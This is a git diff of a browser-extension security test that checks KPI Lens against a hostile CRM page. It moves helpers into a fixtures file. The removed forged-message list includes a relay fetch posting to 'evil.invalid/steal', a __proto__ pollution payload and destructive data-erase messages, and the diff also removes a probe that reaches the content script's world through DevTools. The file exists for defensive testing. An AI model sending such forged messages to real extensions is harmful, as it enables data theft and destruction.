@@ -8,9 +8,8 @@
  * Forged runtime messages are sent from the content script's own world (DevTools protocol, its
  * isolated execution context): privileged requests are refused there.
  */
-import type { CDPSession, Frame, Page, Worker } from 'playwright-core';
+import type { Frame, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { RELAY_BITRIX_SESSID, RELAY_FETCH } from '../../lib/connections/relay-protocol';
 import { QUARANTINE_RAW_LIMIT } from '../../lib/db/schema';
 import { parseRecord, type RecordType } from '../../lib/model';
 import { uiStateKey } from '../../lib/settings/ui-state';
@@ -23,6 +22,7 @@ import { launchWithExtension, type ExtensionBrowser } from '../harness/chromium'
 import { readSidebar, sidebarFrame, type SidebarReading } from '../harness/sidebar-reader';
 import { readExtensionDb, type DbSnapshot } from '../fixtures/extension-db';
 import { startHostileCrm, type HostileCrm } from '../fixtures/hostile-crm';
+import { contentScriptWorld, forgedShapes, hostile, PROTOTYPE_PROBE, prototypesOf } from '../fixtures/hostile-probes';
 import { openQuietPage } from '../fixtures/quiet-page';
 import { canonicalJson, servedObjects, type ServedObject } from '../fixtures/sandbox-expectations';
 import { allDone } from '../fixtures/sync-invariants';
@@ -50,77 +50,15 @@ afterAll(async () => {
   await crm?.close();
 });
 
-type Hostile = {
-  probe: () => Record<string, unknown> & { html: string; polluted: unknown[]; extensionUrlsInTimeline: string[] };
-  embed: (url: string, shapes: unknown[]) => Promise<{ outcome: string; content: string; href: string }>;
-  attack: (shapes: unknown[], origin: string) => { hostRect: { left: number; top: number; width: number; height: number }; points: number };
-};
-const hostile = (target: Page) => ({
-  probe: () => target.evaluate(() => (window as unknown as { __hostile: Hostile }).__hostile.probe()),
-  embed: (url: string, shapes: unknown[]) => target.evaluate(([address, list]) => (window as unknown as { __hostile: Hostile }).__hostile.embed(address as string, list as unknown[]), [url, shapes] as const),
-  attack: (shapes: unknown[], origin: string) => target.evaluate(([list, to]) => (window as unknown as { __hostile: Hostile }).__hostile.attack(list as unknown[], to as string), [shapes, origin] as const),
-});
-
-/** Object.prototype and friends, as a realm sees them: any polluted key shows up here. */
-const PROTOTYPE_PROBE = `(() => ({
-  polluted: [({}).polluted, [].polluted, (function () {}).polluted, Object.prototype.polluted, ({}).toString].map((value) => typeof value),
-  objectKeys: Object.getOwnPropertyNames(Object.prototype).sort(),
-  arrayKeys: Object.getOwnPropertyNames(Array.prototype).length,
-  forIn: (() => { const found = []; for (const key in {}) found.push(key); return found; })(),
-}))()`;
-
-async function prototypesOf(target: Page | Frame | Worker): Promise<unknown> {
-  return (target.evaluate as (expression: string) => Promise<unknown>)(PROTOTYPE_PROBE);
-}
-
-/** The content script's isolated world in a tab, reached through the DevTools protocol. */
-async function contentScriptWorld(target: Page, extensionId: string): Promise<{ evaluate: (expression: string) => Promise<unknown>; session: CDPSession }> {
-  const session = await target.context().newCDPSession(target);
-  const contexts: { id: number; origin: string; auxData?: { type?: string } }[] = [];
-  session.on('Runtime.executionContextCreated', ({ context }) => contexts.push(context as (typeof contexts)[number]));
-  await session.send('Runtime.enable');
-  const world = contexts.find((context) => context.auxData?.type === 'isolated' && context.origin === `chrome-extension://${extensionId}`);
-  if (!world) throw new Error('the content script’s world was not found in the tab');
-  return {
-    session,
-    evaluate: async (expression) => {
-      const { result, exceptionDetails } = await session.send('Runtime.evaluate', { expression, contextId: world.id, awaitPromise: true, returnByValue: true });
-      if (exceptionDetails) throw new Error(exceptionDetails.exception?.description ?? exceptionDetails.text);
-      return result.value;
-    },
-  };
-}
-
 const uiState = () => quiet.evaluate((key) => (globalThis as unknown as { chrome: { storage: { local: { get(k: string): Promise<Record<string, unknown>> } } } }).chrome.storage.local.get(key).then((all) => all[key] ?? null), uiStateKey('sandbox'));
 const marginRight = () => page.evaluate(() => document.documentElement.style.getPropertyValue('margin-right'));
 
-/** Every message shape KPI Lens uses (runtime requests, the relay, the toggle), and garbage. */
-const forgedShapes = (crmUrl: string, source: string): unknown[] => [
-  { type: 'page/opened', url: `${crmUrl}/deals` },
-  { type: 'sidebar/toggle' },
-  { type: 'sidebar/toggle', tabId: 0 },
-  { type: RELAY_FETCH, url: `${crmUrl}/api/v1/deals`, method: 'GET', headers: {} },
-  { type: RELAY_FETCH, url: 'http://evil.invalid/steal', method: 'POST', headers: {}, body: 'x' },
-  { type: RELAY_BITRIX_SESSID },
-  { type: 'sync/start', source, full: true },
-  { type: 'status/get' },
-  { type: 'demo/load' },
-  { type: 'data/delete-all' },
-  { type: 'data/erase-everything' },
-  { type: 'data/export-page', table: 'deal', limit: 5_000 },
-  { type: 'import/delete', source: 'csv:x' },
-  { type: 'table/pick', tabId: 0 },
-  { type: 'table/rows', rows: [] },
-  JSON.parse('{"__proto__": {"polluted": "message"}, "type": "sidebar/toggle"}'),
-  null,
-  'sidebar/toggle',
-];
 const stored = (snapshot: DbSnapshot) => Object.values(snapshot.tables).reduce((sum, rows) => sum + rows.length, 0);
 
 describe('a hostile CRM page', () => {
   it('syncs hostile records without pollution: 1 MB titles in quarantine, every stored record valid and unchanged', async () => {
     page = await browser.context.newPage();
-    await page.goto(`${crm.url}/deals`);
+    await page.goto(`${crm.url}/deals`, { waitUntil: 'domcontentloaded', timeout: 90_000 }); // 50,000 rows take a while on a loaded machine
     expect(await page.locator('#deals tbody tr').count()).toBe(50_000);
     frame = await sidebarFrame(page);
     await expect.poll(async () => allDone(await readExtensionDb(quiet, source, { statesOnly: true }), served), { timeout: 60_000 }).toBe(true);
@@ -206,7 +144,7 @@ describe('a hostile CRM page', () => {
 
     // The page read nothing of the sidebar: no shadow root, no frame, no URL, no message, none of its text.
     const probe = await hostile(page).probe();
-    expect(probe).toMatchObject({ host: true, shadowRoot: false, childNodes: 0, iframesInDocument: 0, frames: [], reattach: 'refused: NotSupportedError', capturedRoots: [], iframes: [], frameUrls: [], extensionMessages: [], runtimeSendMessage: 'undefined', extensionUrlsInTimeline: [] });
+    expect(probe).toMatchObject({ host: true, shadowRoot: false, childNodes: 0, iframesInDocument: 0, frames: [], reattach: 'refused: NotSupportedError', capturedRoots: [], iframes: [], frameUrls: [], added: ['KPI-LENS-SIDEBAR'], extensionMessages: [], runtimeSendMessage: 'undefined', extensionUrlsInTimeline: [] });
     expect(probe.forgedMessagesSeen).toBeGreaterThan(shapes.length); // the forged traffic did happen
     const sidebarText = await frame.evaluate(() => document.body.innerText);
     expect(sidebarText.length).toBeGreaterThan(50);
